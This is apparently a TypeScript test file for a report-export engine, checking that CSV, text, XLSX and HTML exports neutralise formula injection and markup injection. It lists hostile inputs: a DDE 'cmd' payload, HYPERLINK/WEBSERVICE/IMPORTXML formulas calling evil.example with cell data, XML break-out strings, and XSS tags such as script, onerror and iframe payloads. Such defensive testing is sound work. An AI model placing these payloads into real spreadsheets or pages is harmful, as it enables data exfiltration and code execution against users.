/** Texts of callers and agents that a spreadsheet would run. */
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import t from 'tap'
import { readCsv } from '../../../engine/config/csv-text.ts'
import type { Column } from '../../../engine/core/manifest.ts'
import { type RowFile, writeRows } from '../../../engine/reports/write-rows.ts'
import { readZip } from '../../fakes/read-zip.ts'
import { tally } from './tally.ts'

const starts = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  ' =',
  '\u00a0=',
  '\ufeff=',
  '＝',
  '＋',
  '－',
  '＠',
  '"=',
  "'=",
  ';=',
  ',=',
  '|=',
  '%=',
]
const payloads = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://evil.example?x="&A1,"x")',
  'WEBSERVICE("http://evil.example")',
  'IMPORTXML("http://evil.example","//a")',
  'SUM(A1:A9)',
  '1;=1+1',
  '1\n=1+1',
  '1,=1+1',
  '1"\n=1',
]
const hostile = starts.flatMap((start) => payloads.map((payload) => start + payload))

const columns: Column[] = [
  { name: 'a', title: 'A', type: 'text' },
  { name: 'p', title: 'P', type: 'phone' },
  { name: 'b', title: 'B', type: 'text' },
]

async function write(format: RowFile['format'], texts: string[]): Promise<Buffer> {
  const outPath = join(t.testdirName, `out.${format}`)
  const chunks = [[texts, texts, texts.map(() => 'plain')]]
  const stream = {
    async fetchChunk() {
      const cells = chunks.shift()
      return cells ? { rowCount: texts.length, getColumns: () => cells } : null
    },
  }
  const content = {
    report: 'call/x',
    title: 'Calls',
    columns,
    timezone: 'UTC',
    locale: 'en',
    head: null,
    layout: null,
    totals: null,
  }
  const file = { ...content, format, gzip: false, outPath, maxBytes: 2 ** 24, rowCount: texts.length }
  await writeRows(stream, file, new AbortController().signal)
  return readFileSync(outPath)
}

/** What Excel, LibreOffice and Sheets take for the beginning of a formula, once they have trimmed a cell. */
const runs = /^[\s\ufeff]*[=+\-@＝＋－＠]/u

t.testdir({})

t.test('no cell of a CSV or text file begins a formula, however it is divided again', async (t) => {
  await tally(t, 800, async (tried) => {
    for (const format of ['csv', 'txt'] as const) {
      const text = (await write(format, hostile)).toString('utf8')
      const records = format === 'csv' ? readCsv(text).map(({ cells }) => cells) : readTabs(text)
      const rows = records.slice(1)
      if (rows.length !== hostile.length) tried(`${format}: rows`, `${rows.length} of ${hostile.length}`)
      rows.forEach((cells, index) => {
        const shown = JSON.stringify(hostile[index])
        tried(`${format} text ${shown}`, runs.test(cells[0] ?? '') ? JSON.stringify(cells[0]) : null)
        tried(`${format} phone ${shown}`, runs.test(cells[1] ?? '') ? JSON.stringify(cells[1]) : null)
        if (cells.length !== 3 || cells[2] !== 'plain') tried(`${format} ${shown}`, `${cells.length} cells`)
      })
    }
  })
})

function readTabs(text: string): string[][] {
  return readCsv(text.replaceAll(',', '\u0001').replaceAll('\t', ',')).map(({ cells }) => cells)
}

t.test('no cell of a workbook is a formula or a link, and no text of one breaks out of it', async (t) => {
  await tally(t, 200, async (tried) => {
    const breaking = [
      '</t></is></c><c><f>1+1</f></c>',
      ']]><f>1</f>',
      '&lt;f&gt;',
      '_x003C_f_x003E_',
      '\u0000<f>',
    ]
    const texts = [...hostile, ...breaking]
    const parts = readZip(await write('xlsx', texts))
    const sheet = parts.get('xl/worksheets/sheet1.xml')!
    for (const text of texts)
      tried(JSON.stringify(text), /<f[ >]|<hyperlink/.test(sheet) ? 'a formula' : null)
    tried('rows', sheet.match(/<row /g)?.length === texts.length + 1 ? null : 'rows were added')
    const others = [...parts.keys()].filter((name) => /externalLink|connections|vba|drawing/i.test(name))
    tried('parts', others.length === 0 ? null : others.join())
  })
})

t.test('no text is a tag in a page', async (t) => {
  const tags = [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '"><svg onload=alert(1)>',
    "'><a href=javascript:1>",
    '</td><iframe src=//evil.example>',
    '<!--',
    '{{constructor}}',
    '&#60;script&#62;',
  ]
  const page = (await write('html', [...tags, ...hostile])).toString('utf8')
  await tally(t, 8, (tried) => {
    for (const text of tags)
      tried(text, /[<>"']/.test(text) && page.includes(text) ? 'it is there as it was' : null)
    tried('tags', /<(script|img|svg|iframe|a)\b/i.test(page) ? 'a tag' : null)
  })
})
